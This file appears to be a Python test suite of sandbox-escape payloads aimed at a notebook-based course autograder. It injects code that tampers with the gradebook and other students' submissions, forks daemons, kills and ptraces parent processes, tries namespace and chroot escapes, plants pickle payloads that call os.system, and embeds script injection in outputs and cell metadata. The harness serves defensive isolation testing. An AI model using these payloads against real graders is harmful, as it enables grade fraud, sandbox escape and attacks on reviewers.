"""Out of the room: onto the disk, the network, the next student, or past the end of the run."""

from attacks import MARK, SPARE_THE_MACHINE, attack


@attack()
def write_outside(work):
    """Writes into a folder of the grader's, and over the course's own files."""
    work.add(
        f"""
import os
for path in ("$CANARY/{MARK}", "$COURSE/{MARK}", "$COURSE/solutions/{MARK}",
             "$COURSE/classroom/submitted/honest_01/04_convolution/{MARK}",
             "$PROJECT/{MARK}", "$PACKAGES/{MARK}", "/var/tmp/{MARK}", "/{MARK}",
             "/etc/{MARK}", "/usr/lib/{MARK}", "/root/{MARK}"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        open(path, "w").write("x")
    except OSError:
        pass
"""
    )


@attack()
def change_the_course(work):
    """Writes into the gradebook, the secret, the configuration and another's submission."""
    work.add(
        """
import os, shutil, sqlite3
for path in ("$COURSE/nbgrader_config.py", "$COURSE/classroom/secret",
             "$COURSE/classroom/submitted/honest_01/04_convolution/04_convolution.ipynb"):
    for way in (lambda: open(path, "a").write("\\nraise SystemExit\\n"),
                lambda: os.remove(path), lambda: os.chmod(path, 0)):
        try:
            way()
        except OSError:
            pass
try:
    sqlite3.connect("$COURSE/classroom/gradebook.db").execute(
        "update grade set auto_score = 1000")
except sqlite3.Error:
    pass
shutil.rmtree("$COURSE/classroom", ignore_errors=True)
"""
    )


@attack()
def poison_the_next(work):
    """Leaves marks in the process, the home, the temporary folders and the packages."""
    work.add(
        f"""
import builtins, os, sys
import cnncourse.compare, cnncourse.seal
np.poisoned = builtins.poisoned = True
os.environ["POISONED"] = "1"
cnncourse.seal.seal = lambda *a: {{}}
sys.modules["json"].dumps = lambda *a, **k: "{{}}"
home, python = os.path.expanduser("~"), os.path.dirname(os.__file__)
for folder in (home, "/tmp", "/dev/shm", "/var/tmp", "/run", ".",
               home + "/.ipython/profile_default/startup", home + "/.config/matplotlib",
               np.__path__[0], os.path.dirname(cnncourse.__file__), python):
    for name in ("{MARK}", "00-{MARK}.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            path = os.path.join(folder, name)
            if not os.path.exists(path):
                open(path, "w").write("import builtins; builtins.poisoned = True\\n")
        except OSError:
            pass
"""
    )


@attack()
def network(work):
    """Connects to servers on this machine and on others, over every kind of socket."""
    work.add(
        """
import socket
def reach(family, address, kind=socket.SOCK_STREAM):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(2)
            s.connect(address)
            s.sendall(b"answers, please")
            print("CONNECTED", address)
    except OSError as error:
        print("no network", type(error).__name__)
reach(socket.AF_INET, ("127.0.0.1", $PORT))
reach(socket.AF_INET, ("127.0.0.1", $PORT), socket.SOCK_DGRAM)
reach(socket.AF_INET, ("192.0.2.1", 80))
reach(socket.AF_UNIX, "$CANARY/socket")
reach(socket.AF_UNIX, "\\x00$TOKEN-socket")
try:
    print(socket.getaddrinfo("example.org", 80))
except OSError:
    print("no names")
"""
    )


@attack()
def shells(work):
    """Runs shells through magics, `os.system` and the bash cell magic."""
    work.add(f'!touch "$CANARY/{MARK}-bang"; touch "$COURSE/{MARK}-bang"')
    work.add(f"%%bash\ntouch $CANARY/{MARK}-bash; (sleep 1000; echo $TOKEN) &\nid; uname -a")
    work.add(f"import os\nos.system('touch $CANARY/{MARK}-system')\n%cd /\n%env X=1")


@attack()
def daemons(work):
    """Starts processes that leave their session and go on behind the notebook's end."""
    work.add(
        f"""
import os, subprocess, sys
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.closerange(0, 256)
            os.execv("/bin/sh", ["{MARK}-daemon", "-c",
                     "sleep 3; touch $CANARY/{MARK}-daemon; sleep 600; : {MARK}-daemon"])
        os._exit(0)
try:
    subprocess.Popen(["nohup", "setsid", "sh", "-c", "sleep 600; : {MARK}-daemon"])
except OSError:
    pass
"""
    )


@attack()
def at_the_end(work):
    """Hangs and writes files when its process ends: exit hooks, threads, finalizers."""
    work.add(
        f"""
import atexit, threading, time, weakref
def late(*_):
    time.sleep(4)
    open("$CANARY/{MARK}-atexit", "w").write("x")
    time.sleep(600)
atexit.register(late)
threading.Thread(target=lambda: (time.sleep(600), late())).start()
class Last:
    def __del__(self): late()
import sys
sys.modules["{MARK}"] = Last()
threading._register_atexit(late)
"""
    )


@attack()
def kill_the_parents(work):
    """Sends signals to its parents, to its group and to everybody."""
    work.add(
        SPARE_THE_MACHINE
        + """
import signal
for pid in {os.getppid(), *range(1, 200), -1, -os.getpgrp()} - {os.getpid(), 0}:
    for name in ("SIGTERM", "SIGINT", "SIGSTOP", "SIGKILL"):
        try:
            os.kill(pid, getattr(signal, name))
        except OSError:
            pass
"""
    )


@attack()
def trace_the_parents(work):
    """Attaches to its parents as a debugger does."""
    work.add(
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_SEIZE = 16, 0x4206
for pid in {os.getppid(), 1} - {os.getpid()}:
    for request in (PTRACE_ATTACH, PTRACE_SEIZE):
        print("TRACED" if libc.ptrace(request, pid, 0, 0) == 0 else "refused")
"""
    )


@attack()
def new_namespaces(work):
    """Builds a room of its own: mounts, user namespaces, chroot, a new root's rights."""
    work.add(
        SPARE_THE_MACHINE
        + f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if os.fork() == 0:
    for flags in (0x10000000, 0x00020000, 0x10020000, 0x40000000):
        libc.unshare(flags)
    for source in (b"/proc", b"proc", b"none"):
        libc.mount(source, b"/tmp", b"proc", 0, None)
        libc.mount(source, b"/mnt", b"tmpfs", 0, None)
    libc.umount2(b"/", 2)
    libc.setuid(0); libc.setresuid(0, 0, 0)
    for way in (lambda: os.chroot("/proc/1/root"), lambda: os.chdir("/proc/1/root"),
                lambda: os.mknod("sda", 0o60600, os.makedev(8, 0)),
                lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/bin/touch $CANARY/x"),
                lambda: open("/proc/1/root$CANARY/{MARK}-root", "w").write("x")):
        try:
            way()
        except OSError:
            pass
    os._exit(0)
os.wait()
"""
    )


@attack()
def pickles(work):
    """Puts payloads where a careless grader would unpickle them."""
    work.add(
        f"""
import glob, os, pickle, tempfile
class Payload:
    def __reduce__(self):
        return os.system, ("touch $CANARY/{MARK}-pickle",)
for folder in (tempfile.gettempdir(), ".", "/tmp"):
    for name in ("results.pkl", "answers.npz", "04_convolution.pkl"):
        try:
            open(os.path.join(folder, name), "wb").write(pickle.dumps(Payload()))
        except OSError:
            pass
"""
    )


@attack(loses=["conv2d"])
def pickle_in_the_seal(work):
    """Seals a pickle in place of an array."""
    work.add(
        f"""
import base64, io, os, pickle, zipfile
import cnncourse.notebook as _n
_seal = _n.seal
class _Payload:
    def __reduce__(self):
        return os.system, ("touch $CANARY/{MARK}-seal",)
def _forge(name, answers):
    bundle = _seal(name, answers)
    if name == "conv2d":
        buffer, npy = io.BytesIO(), io.BytesIO()
        np.lib.format.write_array_header_1_0(
            npy, {{"shape": (1,), "fortran_order": False, "descr": "|O"}})
        with zipfile.ZipFile(buffer, "w") as z:
            z.writestr("0.0.npy", npy.getvalue() + pickle.dumps([_Payload()]))
        bundle["npz"] = base64.b64encode(buffer.getvalue()).decode()
    return bundle
_n.seal = _forge
""",
        after="conv2d",
    )


@attack()
def script_in_outputs(work):
    """Displays scripts, frames and handlers, for whoever opens the feedback page."""
    work.add(
        f"""
from IPython.display import HTML, Javascript, Markdown, SVG, display
script = "<script>document.title='{MARK}'</script>"
handler = "=\\"document.title='{MARK}'\\""
display(HTML(script + "<img src=x onerror" + handler + ">"))
display(HTML("<iframe srcdoc=\\"" + script.replace("doc", "parent.doc") + "\\"></iframe>"))
display(HTML("<form action='javascript:1'><input autofocus onfocus" + handler + "></form>"))
display(HTML("<style onload" + handler + ">*{{}}</style><svg onload" + handler + ">"))
display(HTML("</div></div></div>" + script))
display(HTML("<meta http-equiv=refresh content='0;url=https://example.org'><base href='//x'>"))
display(Javascript("document.title='{MARK}'"))
display(Markdown("<script>document.title='{MARK}'</script> [x](javascript:alert(1))"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>document.title='{MARK}'</script></svg>"))
display({{"text/latex": "</pre><script>document.title='{MARK}'</script>"}}, raw=True)
display({{"image/png": "\\"><script>document.title='{MARK}'</script>"}}, raw=True,
        metadata={{"image/png": {{"width": "1 onload=document.title='{MARK}'"}}}})
display({{"text/html": "<b>x</b>"}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
print("<script>document.title='{MARK}'</script>")
class E(Exception): pass
E.__name__ = "<script>document.title='{MARK}'</script>"
raise E("<script>document.title='{MARK}'</script>")
"""
    )


@attack()
def script_in_cells(work):
    """Writes scripts into Markdown, raw cells, tags, ids, languages and grade ids."""
    script = f"<script>document.title='{MARK}'</script>"
    work.add(
        f"{script} <img src=x onerror=\"document.title='{MARK}'\"> [x](javascript:alert(1))\n\n"
        f"$\\href{{javascript:alert(1)}}{{x}}$\n\n<svg/onload=document.title='{MARK}'>",
        markdown=True,
    )
    cell = work.notebook.cells[-1]
    cell.metadata["tags"] = [f'"><b onmouseover=alert(1)>{script}']
    cell.metadata["nbgrader"] = {
        "grade_id": script,
        "grade": True,
        "solution": True,
        "comment": script,
        "locked": False,
        "points": 1,
        "schema_version": 3,
        "task": False,
    }
    work.add("x = 1")
    work.notebook.cells[-1].metadata["magics_language"] = f'"><b>{script}'
    work.add("y = 1")
    raw = work.notebook.cells[-1]
    raw.cell_type = "raw"
    raw.pop("outputs"), raw.pop("execution_count")
    raw.source = script
    raw.metadata["raw_mimetype"] = "text/html"
    work.notebook.metadata["title"] = script
    work.notebook.metadata["authors"] = [{"name": script}]


@attack(loses=["conv2d"])
def script_in_the_report(work):
    """Raises an error whose message is a script, with colours and text that runs backwards."""
    work.conv2d(
        f"raise ValueError(\"<script>document.title='{MARK}'</script> \\x1b[2J\\x1b]0;owned\\x07 "
        '\\u202egnp.exe \\x00 \\ud800 [red]rich[/red]")'
    )
